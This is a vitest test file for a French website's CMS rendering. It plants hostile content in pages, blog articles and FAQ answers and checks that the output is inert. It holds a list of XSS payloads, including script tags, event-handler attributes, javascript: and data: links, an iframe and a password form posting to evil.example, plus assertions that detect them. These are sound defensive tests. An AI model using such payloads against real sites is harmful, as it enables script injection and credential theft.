import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documentId } from '../../product-api/db/document-id.ts';
import {
  appStateText,
  bodyOf,
  executableScripts,
  headOf,
  jsonLdOf,
  titlesOf,
} from './support/html.ts';
import { startSite, type TestSite } from './support/start-site.ts';

// ADR 015: CMS content is untrusted. The embedded API has no write endpoint for pages, articles
// or help answers, so hostile rows go straight into its database; the pages that show them
// must let no script, handler, javascript: URL, form, inline style or frame through.

const payload = [
  'Avant.',
  '<script>alert("script")</script>',
  '<img src="x" onerror="alert(\'img\')">',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0">recouvre</p>',
  '<a href="javascript:alert(1)">lien html</a>',
  '[lien markdown](javascript:alert(1))',
  '[lien encodé](&#106;avascript:alert(1))',
  '[lien data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://tracker.example/pixel.gif)',
  '<svg onload="alert(1)"></svg>',
  '</script><script>alert("fin")</script><!--',
  '\u2028\u2029',
  '[un vrai lien](/faq) et [un autre site](https://example.org/)',
  'Après.',
].join('\n\n');

const now = new Date().toISOString();
const slugs = {
  page: 'page-piegee',
  article: 'article-piege',
  faq: 'question-piegee',
};
let site: TestSite;
let faqPath: string;

beforeAll(async () => {
  site = await startSite();
  const { store } = site.api;
  store.run(
    store.db.insertInto('pages').values({
      document_id: documentId(),
      slug: slugs.page,
      title: 'Page <script>alert("titre")</script>',
      seo_description: 'Description "><script>alert(1)</script>',
      content: payload,
      created_at: now,
      updated_at: now,
      published_at: now,
    }),
  );
  const articleId = store.insertId(
    store.db.insertInto('blog_articles').values({
      document_id: documentId(),
      title: 'Article <img src=x onerror=alert(1)>',
      slug: slugs.article,
      seo_title: 'SEO </title><script>alert(1)</script>',
      seo_description: 'SEO "><svg onload=alert(1)>',
      text: payload,
      excerpt: 'Extrait <b onmouseover=alert(1)>',
      status: 'live',
      author: 'Mallory <script>, pirate',
      cover_id: null,
      created_at: now,
      updated_at: now,
      published_at: now,
    }),
  );
  const category = store.first(store.db.selectFrom('blog_categories').select('id').limit(1));
  store.run(
    store.db
      .insertInto('blog_articles_categories_lnk')
      .values({ article_id: articleId, category_id: category?.id ?? 1, position: 1 }),
  );
  const subsection = store.first(
    store.db
      .selectFrom('faq_subsections')
      .innerJoin('faq_sections', 'faq_sections.id', 'faq_subsections.faq_section_id')
      .select(['faq_subsections.id', 'faq_subsections.slug', 'faq_sections.slug as section'])
      .where('faq_sections.id', '!=', 10)
      .orderBy('faq_subsections.id')
      .limit(1),
  );
  if (!subsection) throw new Error('no FAQ subsection in the seed');
  const faqId = store.insertId(
    store.db.insertInto('faq_articles').values({
      document_id: documentId(),
      faq_subsection_id: subsection.id,
      title: 'Question piégée <script>alert(1)</script> zanzibar',
      slug: slugs.faq,
      content: payload,
      position: 99,
    }),
  );
  store.run(
    store.db
      .insertInto('faq_keywords')
      .values({ document_id: documentId(), faq_article_id: faqId, title: '<img onerror=x>' }),
  );
  faqPath = `/faq/${subsection.section}/${subsection.slug}/${slugs.faq}`;
});
afterAll(() => site.stop());

/** Every element's attributes of an HTML fragment (text is escaped: each `<` opens a tag). */
function tagsIn(html: string): { name: string; attrs: { name: string; value: string }[] }[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)].map((tag) => ({
    name: (tag[1] ?? '').toLowerCase(),
    attrs: [...(tag[2] ?? '').matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g)].map((attr) => ({
      name: (attr[1] ?? '').toLowerCase(),
      value: attr[2] ?? '',
    })),
  }));
}

/** The body without the data block (JSON, checked on its own). */
const visibleBody = (html: string) =>
  bodyOf(html).replace(/<script id="app-state" type="application\/json">[\s\S]*?<\/script>/, '');

const contentTags = new Set([
  ...['p', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'hr', 'pre', 'code'],
  ...['em', 'strong', 's', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'img', 'div'],
]);

function expectInert(html: string, label: string) {
  const body = visibleBody(html);
  // what the CMS wrote: allowed elements only (no form, input, script, style, frame…)
  const cms = [...body.matchAll(/<div[^>]*data-cms-content=""[^>]*>([\s\S]*?)<\/div>/g)];
  expect(cms.length, `${label}: CMS content`).toBeGreaterThan(0);
  for (const [, content = ''] of cms)
    for (const tag of tagsIn(content))
      expect(contentTags.has(tag.name), `${label}: <${tag.name}> in CMS content`).toBe(true);
  // the whole page: no frame, style sheet or handler, no URL that runs or tracks
  for (const tag of tagsIn(body)) {
    for (const banned of ['iframe', 'frame', 'object', 'embed', 'style', 'math'])
      expect(tag.name, label).not.toBe(banned);
    for (const attr of tag.attrs) {
      expect(attr.name.startsWith('on'), `${label}: ${attr.name} on <${tag.name}>`).toBe(false);
      expect(attr.name, `${label}: <${tag.name}>`).not.toBe('style');
      if (['href', 'src', 'action', 'formaction', 'srcset'].includes(attr.name))
        expect(attr.value, `${label}: ${attr.name}`).not.toMatch(
          /^\s*(javascript|vbscript|data):/i,
        );
      // a link may lead to another site (rel="noopener noreferrer"); a picture may not track
      if (attr.name === 'src' || attr.name === 'srcset')
        expect(attr.value, `${label}: ${attr.name}`).not.toMatch(/tracker\.example|evil\.example/);
    }
  }
  // the only scripts a browser runs are the site's own (its module, React's nonced ones)
  for (const script of executableScripts(html)) {
    expect(script.attrs.src ?? script.attrs.nonce, `${label}: foreign script`).toBeTruthy();
    expect(script.text, label).not.toContain('alert');
  }
  // the data block and the JSON-LD stay JSON
  expect(appStateText(html)).not.toMatch(/[<\u2028\u2029]/);
  for (const block of jsonLdOf(headOf(html))) expect(typeof block).toBe('object');
}

describe('hostile CMS content', () => {
  it('is inert on a content page', async () => {
    const response = await site.request.get(`/${slugs.page}`).expect(200);
    expectInert(response.text, 'page');
    expect(titlesOf(headOf(response.text))).toEqual([
      'Page <script>alert("titre")</script> - Potimarron',
    ]);
    // raw HTML is shown as text, and the real links still work
    expect(response.text).toContain('&lt;script&gt;alert(&quot;script&quot;)&lt;/script&gt;');
    expect(response.text).toMatch(/<a href="\/faq"[^>]*>un vrai lien<\/a>/);
    expect(response.text).toContain(
      '<a href="https://example.org/" rel="noopener noreferrer">un autre site</a>',
    );
  });

  it('is inert on a blog article, its list and its structured data', async () => {
    const article = await site.request.get(`/blog/${slugs.article}`).expect(200);
    expectInert(article.text, 'article');
    expect(headOf(article.text)).not.toContain('<script>alert');
    const list = await site.request.get('/blog/page/1').expect(200);
    expect(list.text).toContain('Article &lt;img src=x onerror=alert(1)&gt;');
    const handlers = tagsIn(visibleBody(list.text)).flatMap((tag) => tag.attrs);
    expect(handlers.filter((attr) => attr.name.startsWith('on'))).toEqual([]);
  });

  it('is inert on a help answer, in the accordion of its subsection and in the search', async () => {
    const answer = await site.request.get(faqPath).expect(200);
    expectInert(answer.text, 'answer');
    const subsection = await site.request.get(faqPath.replace(`/${slugs.faq}`, '')).expect(200);
    expectInert(subsection.text, 'subsection');
    const search = await site.request.get('/faq?recherche=zanzibar').expect(200);
    expect(search.text).toContain('Question piégée &lt;script&gt;alert(1)&lt;/script&gt; zanzibar');
    for (const script of executableScripts(search.text)) expect(script.text).not.toContain('alert');
  });

  it('rendered everything without a render error', () => {
    expect(site.renderErrors).toEqual([]);
  });
});
